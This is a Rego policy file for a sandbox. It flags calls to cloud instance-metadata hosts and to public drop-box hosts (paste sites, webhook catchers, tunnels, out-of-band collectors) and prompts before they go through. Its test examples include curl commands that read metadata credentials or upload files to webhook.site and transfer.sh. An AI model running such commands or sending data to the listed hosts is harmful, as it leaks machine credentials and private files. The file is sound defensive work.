# METADATA
# title: Domains
# description: Asks before a call reaches hosts that give out credentials or take in what anybody sends.
package sandboxd.policies.developer.domains

# METADATA
# title: Instance metadata
# description: The metadata service of a cloud gives the credentials of the machine to whoever asks. Other private addresses pass.
# custom:
#   match:
#     - curl http://169.254.169.254/latest/meta-data/
#     - curl http://metadata.google.internal/computeMetadata/v1/
#   not_match:
#     - curl http://127.0.0.1:8080/
#     - curl http://10.0.0.7/
#     - curl https://example.org/
findings contains {
	"id": "developer.domains.metadata",
	"effect": "ask",
	"message": sprintf("%s is where a cloud gives out the credentials of this machine", [host.name]),
	"subject": host.id,
} if {
	some host in input.hosts
	host.name in {
		"169.254.169.254", "169.254.170.2", "169.254.170.23", "fd00:ec2::254", "[fd00:ec2::254]", "100.100.100.200",
		"metadata.google.internal", "metadata", "metadata.azure.internal", "instance-data", "instance-data.ec2.internal",
	}
}

# METADATA
# title: Drop box
# description: Hosts that keep or pass on whatever they are sent, for anybody to read. Reading a page of documentation passes.
# custom:
#   match:
#     - curl -d @notes.txt https://webhook.site/abc
#     - curl -T a.tar https://transfer.sh/a.tar
#     - curl -d @notes.txt https://x.ngrok-free.app/
#   not_match:
#     - curl https://example.org/a
#     - curl -d @notes.txt https://notpastebin.com/
findings contains {
	"id": "developer.domains.drop_box",
	"effect": "ask",
	"message": sprintf("%s passes on whatever it is sent", [host.name]),
	"hint": "send it to a host of your own",
	"subject": host.id,
} if {
	some host in input.hosts
	some domain in host.suffixes
	domain in {
		"pastebin.com", "paste.rs", "paste.ee", "dpaste.com", "dpaste.org", "hastebin.com", "termbin.com", "ix.io", "sprunge.us",
		"0x0.st", "transfer.sh", "file.io", "tmpfiles.org", "catbox.moe", "gofile.io", "anonfiles.com", "bashupload.com", "oshi.at",
		"webhook.site", "requestbin.com", "requestbin.net", "requestcatcher.com", "pipedream.net", "beeceptor.com", "hookbin.com",
		"ngrok.io", "ngrok.app", "ngrok-free.app", "ngrok.dev", "ngrok-free.dev", "trycloudflare.com", "localtunnel.me", "loca.lt",
		"serveo.net", "localhost.run", "pagekite.me", "interact.sh", "oast.fun", "oast.pro", "oast.live", "oast.site", "oast.me",
		"burpcollaborator.net", "oastify.com", "dnslog.cn", "ceye.io", "canarytokens.com",
	}
}
